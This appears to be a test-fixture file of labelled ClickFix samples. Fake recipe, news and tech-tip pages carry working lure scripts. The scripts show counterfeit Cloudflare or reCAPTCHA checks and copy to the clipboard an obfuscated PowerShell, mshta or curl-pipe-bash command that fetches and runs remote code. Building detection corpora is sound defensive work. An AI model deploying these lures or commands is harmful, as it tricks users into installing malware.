import { htmlRoute, type Entry } from '../entry.js';
import { b64, codes, doc, jsRoute, wpBlog } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-clickfix-cf-overlay-resep-blog',
  label: 'clickfix',
  kind: 'clickfix-hacked-blog',
  url: 'https://dapurbundaratih.com/2024/11/resep-rendang-padang-empuk/',
  body: wpBlog({
    site: 'Dapur Bunda Ratih',
    tagline: 'Resep rumahan ala Minang',
    lang: 'id',
    title: 'Resep Rendang Padang Empuk dan Tahan Lama',
    date: '12 November 2024',
    author: 'Ratih',
    accent: '#8e44ad',
    head: '<script src="https://cdn-jsdelivr-static.com/npm/wp-cache-helper@2.1.4/dist/w.min.js" defer></script>',
    post: `<p>Rendang adalah masakan kebanggaan Minangkabau yang sudah diakui dunia. Kuncinya ada pada api kecil dan kesabaran, karena santan harus dimasak sampai mengeluarkan minyak dan bumbu benar-benar meresap.</p>
<h3>Bahan-bahan</h3><ul><li>1 kg daging sapi bagian paha, potong besar</li><li>2 liter santan dari 3 butir kelapa</li><li>2 batang serai, memarkan</li><li>5 lembar daun jeruk, 2 lembar daun kunyit</li><li>1 butir asam kandis</li></ul>
<h3>Bumbu halus</h3><ul><li>15 butir bawang merah, 8 siung bawang putih</li><li>150 gr cabai merah keriting</li><li>4 cm jahe, 4 cm lengkuas, 3 cm kunyit</li></ul>
<p>Tumis bumbu halus hingga harum, masukkan santan dan daging, lalu aduk terus dengan api sedang. Setelah santan mengental, kecilkan api dan masak 3–4 jam sambil sesekali diaduk hingga kering dan berwarna cokelat kehitaman.</p>`,
  }),
  routes: {
    'cdn-jsdelivr-static.com/npm/wp-cache-helper@2.1.4/dist/w.min.js': jsRoute(`(function(){
if(document.cookie.indexOf("_wpv=1")>-1)return;
var cmd="powershell -w hidden -nop -c \\"iex(irm 'https://update-cdn-check.com/v/ps1?id=7f31')\\" # ✅ Cloudflare: I am human - Ray ID: 8d4f2a91c7e3";
var css="#cfv{position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:system-ui,-apple-system,Segoe UI,Roboto,Arial;color:#313131}#cfv .w{max-width:620px;margin:12vh auto 0;padding:0 20px}#cfv h1{font-size:30px;font-weight:500;margin:0 0 10px}#cfv .box{border:1px solid #e0e0e0;background:#fafafa;border-radius:4px;display:flex;align-items:center;justify-content:space-between;padding:14px 16px;width:300px;margin:24px 0}#cfv .cb{width:26px;height:26px;border:2px solid #555;border-radius:3px;background:#fff;cursor:pointer}#cfv ol{line-height:2;font-size:16px}#cfv kbd{background:#eee;border:1px solid #ccc;border-radius:3px;padding:1px 6px}#cfv .ft{font-size:12px;color:#888;margin-top:40px;border-top:1px solid #eee;padding-top:10px}";
var st=document.createElement("style");st.textContent=css;document.head.appendChild(st);
var d=document.createElement("div");d.id="cfv";
d.innerHTML='<div class="w"><h1>'+location.hostname+'</h1><p>Verifikasi bahwa Anda adalah manusia dengan menyelesaikan tindakan di bawah ini.</p><div class="box" id="bx"><span style="display:flex;gap:12px;align-items:center"><span class="cb" id="cb"></span>Saya manusia</span><span style="font-size:10px;text-align:center">☁<br>CLOUDFLARE<br>Privasi · Ketentuan</span></div><div id="st" style="display:none"><p><b>Langkah verifikasi:</b></p><ol><li>Tekan <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Tekan <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Tekan <kbd>Enter</kbd></li></ol><p style="font-size:13px;color:#666">Kode verifikasi sudah disalin otomatis. Tunggu beberapa detik setelah menekan Enter.</p></div><div class="ft">Ray ID: 8d4f2a91c7e3 · Kinerja &amp; keamanan oleh Cloudflare</div></div>';
document.body.appendChild(d);document.documentElement.style.overflow="hidden";
function cp(){if(navigator.clipboard&&navigator.clipboard.writeText){navigator.clipboard.writeText(cmd).catch(fb)}else fb()}
function fb(){var t=document.createElement("textarea");t.value=cmd;t.style.position="fixed";t.style.opacity="0";document.body.appendChild(t);t.select();document.execCommand("copy");t.remove()}
document.getElementById("cb").onclick=function(){this.style.background="#1a73e8";cp();document.getElementById("st").style.display="block";new Image().src="https://update-cdn-check.com/v/hit?h="+location.hostname};
})();`),
  },
},
{
  id: 'zy-clickfix-recaptcha-bangla-news',
  label: 'clickfix',
  kind: 'clickfix-hacked-blog',
  url: 'https://www.sylhetbarta24.com/national/2025/06/14/flood-update-sunamganj',
  body: doc({
    title: 'সুনামগঞ্জে বন্যা পরিস্থিতির অবনতি | সিলেট বার্তা ২৪',
    lang: 'bn',
    css: `body{margin:0;font-family:"SolaimanLipi","Hind Siliguri",Arial;background:#fff;color:#222}.m{background:#b71c1c;color:#fff;padding:12px 20px;font-size:26px;font-weight:700}.a{max-width:760px;margin:20px auto;padding:0 16px}.a p{font-size:18px;line-height:1.8}
#rc{position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center;z-index:9999}#rc .b{background:#fff;width:360px;border-radius:4px;box-shadow:0 4px 16px rgba(0,0,0,.3);font-family:Roboto,Arial}
#rc .hd{background:#1a73e8;color:#fff;padding:18px}#rc .bd{padding:16px;font-size:14px;line-height:1.6}#rc .row{display:flex;align-items:center;gap:12px;border:1px solid #d3d3d3;padding:12px;margin:12px 0;background:#f9f9f9}#rc .ck{width:24px;height:24px;border:2px solid #c1c1c1;cursor:pointer;background:#fff}
#rc kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:0 5px}.hide{display:none}`,
    body: `<div class="m">সিলেট বার্তা ২৪</div><div class="a"><h1>সুনামগঞ্জে বন্যা পরিস্থিতির অবনতি, পানিবন্দি লাখো মানুষ</h1><p>টানা বর্ষণ ও উজান থেকে নেমে আসা পাহাড়ি ঢলে সুনামগঞ্জের সুরমা নদীর পানি বিপৎসীমার ৪৫ সেন্টিমিটার ওপর দিয়ে প্রবাহিত হচ্ছে। জেলার ছাতক, দোয়ারাবাজার ও তাহিরপুর উপজেলার নিম্নাঞ্চল প্লাবিত হয়েছে।</p><p>জেলা প্রশাসন জানিয়েছে, ইতোমধ্যে ২১০টি আশ্রয়কেন্দ্র খোলা হয়েছে এবং শুকনো খাবার বিতরণ করা হচ্ছে।</p></div>
<div id="rc"><div class="b"><div class="hd"><b>reCAPTCHA</b><br><span style="font-size:13px">আপনি রোবট নন তা যাচাই করুন</span></div><div class="bd">
<div class="row"><span class="ck" id="ck"></span><span>আমি রোবট নই</span></div>
<div id="steps" class="hide"><b>যাচাই সম্পূর্ণ করতে:</b><br>১. কীবোর্ডে <kbd>⊞ Win</kbd> + <kbd>R</kbd> চাপুন<br>২. <kbd>Ctrl</kbd> + <kbd>V</kbd> চাপুন<br>৩. <kbd>Enter</kbd> চাপুন<br><span style="color:#666;font-size:12px">Verification ID: 204913</span></div></div></div></div>
<script>
var _p=${JSON.stringify(b64('mshta https://bd-captcha-verify.com/c/204913.hta # reCAPTCHA Verification ID: 204913 — I am not a robot'))};
document.getElementById("ck").addEventListener("click",function(){
 var v=atob(_p);var ta=document.createElement("textarea");ta.value=v;document.body.appendChild(ta);ta.select();document.execCommand("copy");document.body.removeChild(ta);
 try{navigator.clipboard.writeText(v)}catch(e){}
 this.style.borderColor="#1a73e8";document.getElementById("steps").classList.remove("hide");
});
</script>`,
  }),
},
{
  id: 'zy-clickfix-macos-terminal-taglish',
  label: 'clickfix',
  kind: 'clickfix-macos',
  url: 'https://www.pinoytechtipid.com/2025/05/paano-mag-download-ng-videos-sa-fb/',
  body: wpBlog({
    site: 'Pinoy Tech Tipid',
    tagline: 'Tech tips para sa bawat Pinoy',
    lang: 'fil',
    title: 'Paano mag-download ng videos sa FB nang libre (2025)',
    date: 'May 18, 2025',
    author: 'Jomar',
    accent: '#2563eb',
    post: `<p>Maraming nagtatanong kung paano mag-save ng videos mula sa Facebook para mapanood offline. Sa guide na ito, ituturo namin ang tatlong paraan na gumagana sa Android, iPhone at laptop.</p><p>Paraan 1: gamitin ang built-in na "Save video" sa FB app. Paraan 2: gamitin ang isang web downloader. Paraan 3: screen recording.</p>`,
    extraBody: `<div id="hv" style="position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:99999;font-family:-apple-system,Helvetica,Arial;display:flex;align-items:center;justify-content:center">
<div style="max-width:520px;padding:30px;border:1px solid #ddd;border-radius:12px;box-shadow:0 10px 30px rgba(0,0,0,.1)"><h2 style="margin-top:0">Verify you are human</h2><p>Bago magpatuloy, kailangan naming i-verify na hindi ka bot. Mac users, sundin ang steps:</p>
<ol style="line-height:2"><li>I-click ang <b>Copy verification code</b></li><li>Buksan ang <b>Terminal</b> (⌘ + Space, i-type ang "Terminal")</li><li>I-paste (⌘ + V) at pindutin ang <b>Return</b></li><li>Ilagay ang iyong Mac password kung hihingin</li></ol>
<button id="cv" style="background:#111;color:#fff;border:0;border-radius:8px;padding:12px 20px;font-size:15px">Copy verification code</button> <span id="ok" style="color:#16a34a;display:none">Copied ✓</span></div></div>
<script>
document.getElementById("cv").onclick=function(){
 var c="echo \\"Apple Verification Service ID: 55190\\" && curl -fsSL $(echo "+${JSON.stringify(b64('https://mac-verify-cdn.com/i/55190.sh'))}+" | base64 -d) | bash";
 c="/bin/bash -c \\"$(echo "+btoa(c)+" | base64 -d)\\"";
 navigator.clipboard.writeText(c).then(function(){document.getElementById("ok").style.display="inline"});
};
</script>`,
  }),
},
];
